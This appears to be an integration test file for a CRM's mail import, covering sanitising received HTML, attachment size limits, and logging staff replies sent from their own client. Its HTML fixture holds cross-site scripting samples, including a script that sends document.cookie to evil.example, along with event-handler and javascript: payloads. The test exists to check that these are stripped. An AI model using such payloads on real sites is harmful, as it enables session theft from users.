/**
 * What the CRM keeps of received mail (decision 100), read from a real IMAP server (Dovecot):
 * HTML shown with no script, handler or picture active and its quoted history folded; files kept
 * up to the limit and a 30 MB one listed as not kept while its message is still imported; mail a
 * staff member sent from their own client and copied to the mailbox logged as sent by them, and
 * counted as the first response (the report; the 20-hour reminder stops).
 */
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { contactSubmissions, leadMessages, staffUsers } from "@db/schema";
import { closeMailTransport } from "~/utils/smtp-transport.server";
import { type TestDovecot, rawMessage, startTestDovecot } from "../../tests/helpers/dovecot";
import { type TestSmtp, startTestSmtp } from "../../tests/helpers/smtp";
import { useTestDb } from "../../tests/helpers/test-db";
import { createContactSubmission } from "./contact-submissions.server";
import { createLead, getLead } from "./leads.server";
import { sendLeadReply } from "./lead-replies.server";
import { MAX_ATTACHMENT_BYTES } from "./mailbox-import.server";
import { getAttachment } from "./mailbox-attachments.server";
import { mailboxSettings, syncMailbox } from "./mailbox.server";
import { waitingForReply } from "./reminder-items.server";
import { getReport } from "./reports.server";
import { parseReportRange } from "~/utils/report-range";
import { getTimeline } from "./timeline.server";

const testDb = useTestDb();
let imap: TestDovecot;
let smtp: TestSmtp;
const STAFF = "sam@durhamdatastrategy.test";
const HOUR = 3_600_000;

beforeAll(async () => {
  process.env.LOG_LEVEL = "silent";
  process.env.MAIL_FROM = "Durham Data Strategy <hello@durhamdatastrategy.test>";
  smtp = await startTestSmtp();
  process.env.SMTP_URL = smtp.url;
  imap = await startTestDovecot();
}, 60_000);

afterAll(async () => {
  closeMailTransport();
  await smtp.close();
  await imap?.stop();
  for (const key of ["SMTP_URL", "MAIL_FROM"]) delete process.env[key];
});

beforeEach(async () => {
  await testDb.truncateAll();
});

const sync = () => syncMailbox(mailboxSettings(imap.url));

async function mailEntries(leadId: number) {
  return (await getTimeline((await getLead(leadId))!)).filter((entry) => entry.mail);
}

/** A multipart/mixed message: its parts as [content type, body, extra headers]. */
function multipart(headers: Record<string, string>, parts: [string, string, string?][]) {
  const boundary = `part-${Math.random().toString(36).slice(2)}`;
  const body = parts
    .map(([type, content, extra]) =>
      [`--${boundary}`, `Content-Type: ${type}`, ...(extra ? [extra] : []), "", content].join(
        "\r\n",
      ),
    )
    .join("\r\n");
  return rawMessage(
    headers,
    `${body}\r\n--${boundary}--`,
    `multipart/mixed; boundary="${boundary}"`,
  );
}

describe("received HTML", () => {
  it("is shown with no script, handler or picture active, quoted history folded", async () => {
    const mary = await createLead(
      { firstName: "Mary", lastName: "O'Neil", email: "mary@example.com" },
      STAFF,
    );
    const html = [
      '<div onmouseover="steal()"><p>Tuesday suits us.</p>',
      '<img src="https://tracker.example/open.gif?who=mary" alt="">',
      '<img src="cid:logo" onerror="alert(document.cookie)" alt="Smile Dental">',
      "<script>fetch('https://evil.example/'+document.cookie)</script>",
      '<a href="javascript:alert(1)">click</a></div>',
      "<blockquote><p>On Friday Sam wrote: would Tuesday suit?</p></blockquote>",
    ].join("");
    await imap.append(
      rawMessage({ From: "Mary <mary@example.com>", Subject: "Re: Tuesday" }, html, "text/html"),
    );
    await imap.append(
      rawMessage(
        { From: "mary@example.com", Subject: "Plain" },
        "See you then.\r\n\r\nOn Fri, Sam wrote:\r\n> Would Tuesday suit?\r\n",
      ),
    );
    expect(await sync()).toMatchObject({ read: 2, matched: 2 });
    const entries = await mailEntries(mary.id);
    const htmlEntry = entries.find((entry) => entry.summary.endsWith("Re: Tuesday"))!;
    expect(htmlEntry.mail!.html).toBe(
      "<div><p>Tuesday suits us.</p><span>[Smile Dental]</span><a>click</a></div>" +
        "<blockquote><p>On Friday Sam wrote: would Tuesday suit?</p></blockquote>",
    );
    expect(htmlEntry.mail!.picturesHidden).toBe(2);
    // The raw HTML stays in the database; only the sanitised copy is shown.
    const [stored] = await testDb.db
      .select()
      .from(leadMessages)
      .where(eq(leadMessages.subject, "Re: Tuesday"));
    expect(stored.html).toContain("<script>");
    const plain = entries.find((entry) => entry.summary.endsWith("Plain"))!;
    expect(plain.detail).toBe("See you then.");
    expect(plain.mail).toMatchObject({
      html: null,
      quotedText: "On Fri, Sam wrote:\n> Would Tuesday suit?",
    });
  });
});

describe("attachments", () => {
  it("keeps files up to the limit, lists a 30 MB one as not kept, imports the message", async () => {
    const joe = await createLead(
      { firstName: "Joe", lastName: "Bloggs", email: "joe@example.com" },
      STAFF,
    );
    const pdf = Buffer.from("%PDF-1.4 a small brief");
    // 30 MB of base64 lines, as a mail client would send a large file.
    const big = Buffer.alloc(30 * 1024 * 1024, 7)
      .toString("base64")
      .replace(/.{76}/g, "$&\r\n");
    await imap.append(
      multipart({ From: "joe@example.com", Subject: "Files" }, [
        ["text/plain; charset=utf-8", "Two files attached."],
        [
          "application/pdf; name=brief.pdf",
          pdf.toString("base64"),
          'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="brief.pdf"',
        ],
        [
          "text/html; name=page.html",
          Buffer.from("<script>alert(1)</script>").toString("base64"),
          'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="page.html"',
        ],
        [
          "application/octet-stream; name=export.bin",
          big,
          'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="export.bin"',
        ],
      ]),
    );
    expect(await sync()).toMatchObject({ read: 1, matched: 1 });
    const [entry] = await mailEntries(joe.id);
    expect(entry.detail).toBe("Two files attached.");
    const files = entry.mail!.attachments;
    expect(files.map((f) => [f.filename, f.contentType, f.size, f.kept])).toEqual([
      ["brief.pdf", "application/pdf", pdf.length, true],
      ["page.html", "text/html", 25, true],
      ["export.bin", "application/octet-stream", 30 * 1024 * 1024, false],
    ]);
    expect(30 * 1024 * 1024).toBeGreaterThan(MAX_ATTACHMENT_BYTES);
    expect((await getAttachment(files[0].id))?.content.equals(pdf)).toBe(true);
    expect(await getAttachment(files[2].id)).toBeUndefined();
  }, 120_000);
});

describe("mail staff send from their own client", () => {
  it("is logged as sent by them and counts as the first response, as a CRM reply does", async () => {
    const [staff] = await testDb.db
      .insert(staffUsers)
      .values({ email: STAFF, passwordHash: "not-used-here", displayName: "Sam Lee" })
      .returning();
    // Whole seconds: a mail's Date header has no milliseconds.
    const arrived = new Date(Math.floor((Date.now() - 30 * HOUR) / 1000) * 1000);
    const leadsByEmail: Record<string, number> = {};
    for (const [firstName, email] of [
      ["Mary", "mary@example.com"],
      ["Joe", "joe@example.com"],
    ]) {
      const enquiry = await createContactSubmission({
        firstName,
        lastName: "Client",
        email,
        company: "",
        message: "Subject: Help\n\nCan you help?",
        source: "website",
        sector: "general",
        newsletter: false,
      });
      const lead = await createLead({ firstName, lastName: "Client", email }, STAFF);
      leadsByEmail[email] = lead.id;
      await testDb.db
        .update(contactSubmissions)
        .set({ leadId: lead.id, createdAt: arrived })
        .where(eq(contactSubmissions.id, enquiry.id));
    }
    expect((await waitingForReply("contact", new Date(), testDb.db)).length).toBe(2);

    // Mary is answered from the CRM, accepted by the mail server 6 hours after she wrote.
    const reply = await sendLeadReply(
      (await getLead(leadsByEmail["mary@example.com"]))!,
      { to: "mary@example.com", subject: "Re: Help", body: "Yes", fromName: "Sam Lee" },
      { userId: staff.id, email: STAFF, role: "admin" },
    );
    if (!reply.ok) throw new Error(reply.reason);
    await testDb.db
      .update(leadMessages)
      .set({ status: "sent", sentAt: new Date(arrived.getTime() + 6 * HOUR) })
      .where(eq(leadMessages.id, reply.message.id));
    // Joe is answered by Sam from their own mail client 3 hours after he wrote, BCC'd to the
    // logging address (which no header shows), and Cc'd to a colleague.
    await imap.append(
      rawMessage(
        {
          From: "Sam Lee <Sam@DurhamDataStrategy.test>",
          To: "Joe Client <joe@example.com>",
          Cc: "pat@durhamdatastrategy.test",
          Date: new Date(arrived.getTime() + 3 * HOUR).toUTCString(),
          Subject: "Re: Help",
        },
        "Happy to help, Joe.",
      ),
    );
    expect(await sync()).toMatchObject({ read: 1, logged: 1, unmatched: 0 });

    const [logged] = await mailEntries(leadsByEmail["joe@example.com"]);
    expect(logged).toMatchObject({
      type: "email-sent",
      by: "sam@durhamdatastrategy.test",
      summary: "Email sent from their own mail client: Re: Help",
      at: new Date(arrived.getTime() + 3 * HOUR),
      detail: "Happy to help, Joe.",
    });
    expect((await waitingForReply("contact", new Date(), testDb.db)).length).toBe(0);
    const report = await getReport("first-response", parseReportRange(new URLSearchParams()));
    const month = report.rows.find((row) => Number(row.arrivals) > 0)!;
    expect(month).toMatchObject({ arrivals: 2, answered: 2, medianHours: 4.5 });
  });
});
